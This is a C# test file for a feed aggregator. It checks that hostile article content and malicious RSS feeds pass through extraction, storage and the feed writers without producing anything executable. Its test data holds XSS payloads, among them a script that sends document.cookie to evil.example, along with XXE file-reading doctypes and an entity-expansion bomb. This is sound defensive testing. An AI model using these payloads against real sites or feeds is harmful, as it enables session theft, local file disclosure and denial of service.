using System.Text;
using FeedHub.Crawling;
using FeedHub.Extraction;
using FeedHub.Fetching;
using FeedHub.Normalisation;
using FeedHub.Publishing;
using FeedHub.Sources;
using FeedHub.Storage;
using FeedHub.Tests.Extraction;
using FeedHub.Tests.Fetching;
using FeedHub.Tests.Publishing;
using FeedHub.Tests.Storage;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging.Abstractions;

namespace FeedHub.Tests.Reliability;

/// <summary>
/// Hostile titles and bodies go the whole way (extraction → normalisation → storage → every feed writer)
/// and nothing executable comes out; hostile XML feeds are ingested without expanding or reading anything.
/// </summary>
public sealed class HostileContentTests : IAsyncLifetime
{
    private static readonly Uri ArticleUrl = KpuPages.Article("/blog/read/9012_kpu-contoh-gelar-rapat");

    /// <summary>Huge, right-to-left, astral-plane and XML-forbidden characters, and markup where a title should be text.</summary>
    private static readonly string HostileTitle =
        "KPU Contoh <script>alert('t')</script>Gelar <img src=x onerror=alert(1)>Rapat \u202Eilihat\u202C اللجنة 𝕂𝕡𝕦 🗳️ \u0001\u000B\uFFFE "
        + string.Concat(Enumerable.Repeat("Sangat Panjang ", 4000));

    private const string HostileBody = """
        <p>Contoh, 5 Januari 2026 — Teks sintetis rapat koordinasi pemutakhiran data pemilih berkelanjutan.</p>
        <script>document.location='https://evil.example/?c='+document.cookie</script>
        <iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(2)</script>"></iframe>
        <p onclick="alert(3)" onmouseover="alert(4)" style="width: expression(alert(5)); background:url(javascript:alert(6))">Paragraf dengan atribut peristiwa.</p>
        <p><a href="javascript:alert(7)">tautan javascript</a> <a href="jav&#x09;ascript:alert(8)">tautan tersamar</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">tautan data</a> <a href=" JaVaScRiPt:alert(10)">campur</a></p>
        <p><img src="data:image/svg+xml;base64,PHN2Zy8+" alt=""><img src="/images/ok.jpg" onerror="alert(11)" alt="foto"></p>
        <svg onload="alert(12)"><circle r="1"/></svg><math><mi xlink:href="javascript:alert(13)">x</mi></math>
        <object data="/evil.swf"></object><embed src="/evil.swf"><form action="javascript:alert(14)"><input value="x"></form>
        <style>body{background:url("javascript:alert(15)")}</style><div style="behavior:url(x.htc)">Teks gaya.</div>
        <p>Kontrol \u0001\u0008\u000C karakter, RTL \u202Eabc\u202C, 𝕂𝕡𝕦 🗳️, <b>tebal</b> dan <a href="https://kpu.go.id/">tautan aman</a>.</p>
        """;

    private readonly TempDatabase db = new();

    public Task InitializeAsync() => db.InitializeAsync();

    public Task DisposeAsync() => db.DisposeAsync();

    [Fact]
    public async Task A_hostile_article_reaches_no_feed_format_with_anything_executable()
    {
        var html = KpuPages.Read("article-polo.html")
            .Replace("KPU Contoh Gelar Rapat", HostileTitle.Replace("<", "&lt;", StringComparison.Ordinal), StringComparison.Ordinal)
            .Replace("<p>Contoh, 5 Januari 2026", HostileBody + "<p>Contoh, 5 Januari 2026");
        var source = KpuPages.Source();
        var article = ArticleExtractor.Extract(html, ArticleUrl, source);
        var item = ItemNormaliser.Normalise(article, source, "kab-contoh:9012", TempDatabase.Start, known: null).Item;
        await db.CommitAsync(new ItemWrite(item, "9012", null));

        var stored = await db.Items.QueryAsync(new ItemFilter(), CancellationToken.None);

        var written = Assert.Single(stored);
        Assert.Contains("Paragraf dengan atribut peristiwa.", written.ContentHtml);
        Assert.Contains("<a href=\"https://kpu.go.id/\">tautan aman</a>", written.ContentHtml);
        Assert.True(written.Title.Length <= TextCleaner.MaxTitleLength, $"title of {written.Title.Length} characters");
        Assert.Contains("𝕂𝕡𝕦", written.Title);
        AssertPublishesSafely(stored, source);
    }

    [Fact]
    public async Task Escaped_markup_in_a_title_and_lead_is_plain_text_in_the_rss_output()
    {
        var html = KpuPages.Read("article-polo.html")
            .Replace("KPU Contoh Gelar Rapat", "KPU Contoh &lt;img src=x onerror=alert(1)&gt;Gelar Rapat \u202Eilihat\u202C &lt;img src=y onerror=alert(2)//", StringComparison.Ordinal)
            .Replace("<p>Contoh, 5 Januari 2026", "<p>&lt;img src=z onerror=alert(3)&gt; Pembuka &amp;lt;svg onload=alert(4)// teks.</p><p>Contoh, 5 Januari 2026", StringComparison.Ordinal);
        var source = KpuPages.Source();
        var article = ArticleExtractor.Extract(html, ArticleUrl, source);
        var item = ItemNormaliser.Normalise(article, source, "kab-contoh:9012", TempDatabase.Start, known: null).Item;
        await db.CommitAsync(new ItemWrite(item, "9012", null));
        var stored = await db.Items.QueryAsync(new ItemFilter(), CancellationToken.None);
        var page = FeedPage.Compose(Samples.Query(), stored, [source], Samples.Urls, TempDatabase.Start);

        var rss = System.Xml.Linq.XDocument.Load(new MemoryStream(new RssFeedWriter(Samples.Urls).Write(page)));

        var entry = Assert.Single(rss.Descendants("item"));
        var title = entry.Element("title")!.Value;
        Assert.Contains("Gelar Rapat", title);
        Assert.DoesNotContain("<", title);
        Assert.False(title.Contains('\u202E', StringComparison.Ordinal), title);
        Assert.DoesNotContain("<", stored[0].Summary ?? "");
        Assert.DoesNotContain("<", stored[0].Title);
    }

    [Fact]
    public async Task Hostile_entries_of_an_ingested_feed_reach_no_output()
    {
        var rss = $"""
            <?xml version="1.0" encoding="utf-8"?>
            <rss version="2.0"><channel><title>KPU Contoh</title><link>http://127.0.0.1/</link><description>x</description>
            <item><title>{Escape(HostileTitle)}</title><link>LINK/berita/1</link><guid>berita-1</guid>
            <pubDate>Mon, 05 Jan 2026 10:00:00 +0700</pubDate><description>{Escape(HostileBody)}</description></item>
            <item><title>Tautan berbahaya</title><link>javascript:alert(1)</link><guid>berita-2</guid>
            <pubDate>Mon, 05 Jan 2026 09:00:00 +0700</pubDate><description>Teks sintetis.</description></item>
            </channel></rss>
            """;
        await using var site = await ServeFeed(rss);
        var source = FeedSource(site);

        var report = await CrawlAsync(source);

        Assert.True(report.Outcome == CrawlOutcome.Ok, report.Summary);
        var stored = await db.Items.QueryAsync(new ItemFilter(), CancellationToken.None);
        Assert.NotEmpty(stored);
        Assert.All(stored, i => Assert.Matches("^https?://", i.Link));
        AssertPublishesSafely(stored, source);
    }

    [Theory]
    [InlineData("<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"FILE\">]>", "&xxe;")]
    [InlineData("<!DOCTYPE rss [<!ENTITY % ext SYSTEM \"FILE\"> %ext;]>", "")]
    [InlineData("<!DOCTYPE rss SYSTEM \"FILE\">", "")]
    public async Task An_external_entity_in_an_ingested_feed_never_reads_the_local_file(string doctype, string reference)
    {
        var secret = Path.Combine(db.Directory, "secret.txt");
        await File.WriteAllTextAsync(secret, "RAHASIA-7f3a9c kata sandi basis data");
        var rss = $"""
            <?xml version="1.0"?>
            {doctype.Replace("FILE", new Uri(secret).AbsoluteUri, StringComparison.Ordinal)}
            <rss version="2.0"><channel><title>KPU</title><link>http://127.0.0.1/</link><description>x</description>
            <item><title>Berita {reference}</title><link>LINK/berita/1</link><guid>berita-1</guid><description>Teks {reference}</description></item>
            </channel></rss>
            """;
        await using var site = await ServeFeed(rss);

        var report = await CrawlAsync(FeedSource(site));

        Assert.DoesNotContain("RAHASIA", report.Error ?? "");
        var stored = await db.Items.QueryAsync(new ItemFilter { Limit = 500 }, CancellationToken.None);
        Assert.All(stored, i => Assert.DoesNotContain("RAHASIA", i.Title + i.ContentHtml + i.Summary));
        Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
        foreach (var file in Directory.GetFiles(Path.GetDirectoryName(db.Path)!))
            Assert.DoesNotContain("RAHASIA", Encoding.UTF8.GetString(await File.ReadAllBytesAsync(file)));
    }

    [Fact]
    public async Task An_entity_bomb_in_an_ingested_feed_fails_that_source_without_expanding()
    {
        var lol = string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">"));
        var rss = $"<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY lol0 \"lol\">{lol}]><rss version=\"2.0\"><channel><title>KPU</title>"
            + "<item><title>&lol9;</title><link>LINK/berita/1</link></item></channel></rss>";
        await using var site = await ServeFeed(rss);

        var report = await CrawlAsync(FeedSource(site));

        Assert.Equal(CrawlOutcome.Failed, report.Outcome);
        Assert.Equal(FailureKind.Extraction, report.FailureKind);
        Assert.Contains(site.BaseUrl.Authority, report.Error);
        Assert.Empty(await db.Items.QueryAsync(new ItemFilter(), CancellationToken.None));
    }

    private static void AssertPublishesSafely(IReadOnlyList<Item> stored, Source source)
    {
        var page = FeedPage.Compose(Samples.Query(), stored, [source], Samples.Urls, TempDatabase.Start);
        SafeOutput.AssertSafeXml(new AtomFeedWriter(Samples.Urls).Write(page));
        SafeOutput.AssertSafeXml(new RssFeedWriter(Samples.Urls).Write(page));
        SafeOutput.AssertSafeJson(new JsonFeedWriter().Write(page));
    }

    private static string Escape(string text) => System.Security.SecurityElement.Escape(text);

    private static Source FeedSource(TestSite site) => new()
    {
        Id = "kab-contoh", Name = "KPU Kabupaten Contoh", Region = "jawa-tengah",
        Url = site.Url("/feed"), Kind = SourceKind.Feed, Profile = new Profile { Name = "kpu" },
    };

    /// <summary>Serves <paramref name="xml"/> at /feed, with LINK replaced by the site's own address.</summary>
    private static Task<TestSite> ServeFeed(string xml) =>
        TestSite.StartAsync("127.0.0.1", app => app.MapGet("/feed", (HttpContext context) =>
        {
            context.Response.ContentType = "application/rss+xml; charset=utf-8";
            return context.Response.WriteAsync(xml.Replace("LINK", $"http://{context.Request.Host}", StringComparison.Ordinal));
        }));

    private async Task<CrawlReport> CrawlAsync(Source source)
    {
        var options = new FetchOptions { MinHostGap = TimeSpan.Zero, ObeyRobotsTxt = false };
        var outbound = new OutboundPolicy();
        outbound.Allow([source.Url]);
        using var handler = PoliteFetcher.CreateHandler(options, outbound);
        var fetcher = new PoliteFetcher(handler, options, outbound, TimeProvider.System);
        var crawler = new SourceCrawler(fetcher, db.Items, db.States, db.Time, NullLogger<SourceCrawler>.Instance);
        return await crawler.CrawlAsync(source, new CrawlOptions(), CancellationToken.None);
    }
}
